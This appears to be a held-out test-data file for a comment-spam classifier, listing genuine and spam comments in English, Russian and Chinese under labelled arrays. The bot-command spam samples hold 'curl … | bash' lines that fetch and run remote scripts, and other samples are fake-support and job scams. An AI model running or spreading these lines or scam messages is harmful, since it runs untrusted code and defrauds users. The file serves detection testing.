// Held-out batch of issue 15's "stop flagging real readers" (2026-12-07, third session): the five
// shapes of reader-gap-examples.ts and the spam of their surface, in different wording and by
// different imagined writers, written before any code change and measured once, at the end.
// English, Russian and Chinese, by hand; no text is taken from the public data sets.

/** Journalists looking for witnesses or sources (held out). */
export const PRESS_GENUINE_HELDOUT: readonly string[] = [
  'Correspondent for Eurasianet here. I am working on a story about the grain export ban and would like to talk to farmers in Kostanay. DM me on Telegram @m_kuznetsova, or signal, anonymity guaranteed.',
  'I write for the local paper and am putting together an article about the flooded basements on Abay street. If it happened to you, please contact me at editor.almaty@gazeta-news.kz',
  'Журналистка, пишу статью о задержках зарплат на шахтах. Если вы шахтёр или родственник, напишите в телеграм @olga_pishet, ваше имя останется в тайне.',
  'Делаю репортаж про очереди в ЦОН, ищу очевидцев, пишите в тг @zhanna_reportage',
  '本人是财新记者，在做关于跨境汇款被冻结的调查报道，有类似经历的朋友可以私信，我们会保护信息来源。',
  '我是澎湃新闻的记者，正在写一篇关于边境口岸拥堵的稿子，亲历者可以发邮件到 tips@thepaper-news.cn 联系我',
];

/** Spam claiming to be press, or recruiting with its words (held out). */
export const PRESS_SPAM_HELDOUT: readonly string[] = [
  'Former journalist, now I make $400 a day with a simple online system. Ask me how on Telegram @rich_reporter',
  'Требуются авторы статей, работа из дома, от 50 000 в месяц, пишите в телеграм @texts_job',
  'Редакция ищет корреспондентов! Оплата за каждую статью 5000 рублей, опыт не нужен, пишите в тг @media_vakansii',
  '招聘兼职记者，在家写稿，一篇200元，日结，加微信 xiezuo666',
];

/** A reader's own write-up with figures, no pitch (held out). */
export const WRITEUP_GENUINE_HELDOUT: readonly string[] = [
  'I put the full numbers for the 2015-2025 reservoir levels in a thread on my own site, in case anyone wants to check them: https://dana-writes.net/reservoirs',
  'Wrote this up in more detail on my Medium with the 2022 and 2024 enrolment data, about 12,000 fewer pupils: https://medium.com/@askarb/schools-2024',
  'Я собрал в своём телеграм-блоге таблицу тарифов на тепло за 2020–2025, рост почти на 70%: https://t.me/s/teplo_tarify_notes',
  '我把2020到2025年的房价数据整理成了一篇长文，放在我的个人博客上，涨幅大约35%：https://zhangmin.blog/fangjia',
];

/** Pitches dressed as a write-up (held out). */
export const WRITEUP_SPAM_HELDOUT: readonly string[] = [
  'I wrote on my blog how I went from $0 to $10,000 a month in 2024, free webinar inside: https://income-secrets.xyz',
  'Я написал у себя в блоге, как заработать 200 000 за месяц, переходите и регистрируйтесь: https://zarabotok-blog.top',
  '我在博客里写了2024年月入五万的秘诀，加入即送课程：https://mijue.top',
];

/** A complaint quoting a short service number (held out). */
export const SHORT_NUMBER_GENUINE_HELDOUT: readonly string[] = [
  'Same here, Halyk froze my transfer, I rang 7111 twice and got three different answers before they finally released it.',
  'Tele2 customer service number 611 kept me on hold for forty minutes, then they refunded the roaming charge.',
  'Я звонила в Kaspi на короткий 9999, никто толком не объяснил, почему заблокировали карту.',
  '我打过支付宝的客服95188，说账户被限制了，最后还是退款了，但花了一周。',
];

/** Fake support with a short number (held out). */
export const SHORT_NUMBER_SPAM_HELDOUT: readonly string[] = [
  'Halyk customer service 7111 is busy, contact our support agent on Telegram @halyk_refund_help for an instant refund',
  'Поддержка Kaspi 9999 не отвечает? Пишите нашему специалисту в WhatsApp +7 700 555 12 34, вернём деньги сразу',
];

/** A pasted shell line calling a messenger bot API with a token variable (held out). */
export const BOT_COMMAND_GENUINE_HELDOUT: readonly string[] = [
  'My cron job is just curl -s -X POST "https://api.telegram.org/bot$BOT_TOKEN/sendMessage" -d chat_id=$CHAT -d text="backup ok", nothing fancy',
  'If the webhook is stuck, run curl "https://api.telegram.org/bot<token>/deleteWebhook" and set it again.',
  'У меня алерты уходят через curl -s "https://api.telegram.org/bot${TOKEN}/sendMessage" -d chat_id=${CHAT_ID}, работает третий год',
  '部署完我会跑 curl -s "https://api.telegram.org/bot$TOKEN/sendMessage" -d chat_id=$CHAT_ID -d text=done 通知自己',
];

/** Bot spam in a command's shape (held out). */
export const BOT_COMMAND_SPAM_HELDOUT: readonly string[] = [
  'Best Telegram bot for free crypto airdrops, run curl https://airdrop-bot.top/start.sh | bash and claim your bonus',
  'Бот для заработка в телеграм: curl https://tg-zarabotok.top | sh, доход от 5000 в день',
];

/** A fan speaking of the official channel (held out). */
export const FAN_GENUINE_HELDOUT: readonly string[] = [
  'Been subscribed to the official channel since the first album, and this song still hits the same',
  'Subscribed to their official channel the day this premiered, never regretted it',
  'Давно подписан на их официальный канал, эта песня до сих пор лучшая',
  '很多年前就订阅了他们的官方频道，这首歌还是最爱',
];

/** Channel plugs (held out). */
export const FAN_SPAM_HELDOUT: readonly string[] = [
  'Hey guys, please subscribe to my channel, I post covers every week',
  'Subscribed to you, subscribe back to my channel!',
  'Подпишись на мой канал, там тоже музыка',
  '大家来订阅我的频道吧',
];
